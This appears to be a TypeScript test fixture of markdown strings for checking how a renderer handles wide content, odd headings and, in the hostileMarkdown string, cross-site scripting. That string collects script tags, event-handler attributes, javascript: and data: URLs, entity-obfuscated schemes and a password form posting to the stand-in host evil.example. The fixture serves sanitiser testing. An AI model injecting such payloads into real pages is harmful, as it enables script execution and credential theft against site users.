const code = `const label = "text" // a comment
export class Pool extends Base { size: number = 42; pick(): Host | null { return this.hosts.filter(Boolean)[0] ?? null } }`

/** Markdown with everything an article can hold, much of it too wide for a small window. */
export const everyElement = `A paragraph with *emphasis*, **weight**, ~~a mistake~~, \`inline code\` and [a link](https://example.org/).
${'Unbreakable'.repeat(30)} and https://example.org/${'a-long-path/'.repeat(20)}

## A heading
### A smaller one with ${'averylongword'.repeat(12)}
#### The smallest

- a list
  1. within a list

> a quotation

\`\`\`ts
${code} // ${'wide '.repeat(60)}
\`\`\`

\`\`\`diff
- removed
+ added
\`\`\`

\`\`\`yaml
key: value # ${'wide '.repeat(60)}
\`\`\`

| ${Array.from({ length: 12 }, (_, index) => `Column ${index}`).join(' | ')} |
|${' :-: |'.repeat(12)}
|${' `a_cell_of_code` |'.repeat(12)}

---

![A picture](/favicon.svg "Our own")
`

/** Markdown of three minutes with a heading of each odd kind, as an article that is read. */
export const readableArticle = `${'A cluster that nobody looks after falls behind, and its first sign is a page that takes a little longer than the day before. '.repeat(31)}

## The first part
### A part of it

One [page elsewhere](https://example.org/a?b=c) and one [of this site](/tags).

#### Too deep for a list
## The first part

\`\`\`ts
const label = "text" // a comment
export class Pool { pick(): Host { return this.hosts[42] } }
\`\`\`

## \`<b>\` & "quotes"
## 🪴
## مرحبا بالعالم
`

/** Markdown that tries to run a script in every way its syntax offers. */
export const hostileMarkdown = `Zyzzyva <img src=x onerror=alert(17)>

<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>

<iframe srcdoc="<script>alert(4)</script>"></iframe><a href="javascript:alert(5)">html</a>

[a](javascript:alert(6)) [b](JaVaScRiPt:alert(7)) [c](&#106;avascript:alert(8)) [d](data:text/html,<script>alert(9)</script>)

![e](x" onerror="alert(10)) ![f](javascript:alert(11)) [g]: javascript:alert(12) "t" [g]

[h](https://example.org "x" onmouseover=alert(13)) <javascript:alert(14)>

\`\`\`js" onmouseover="alert(15)
</code></pre><script>alert(16)</script>
\`\`\`

<style>body { display: none }</style><form action="https://evil.example"><input name="password"></form>
`
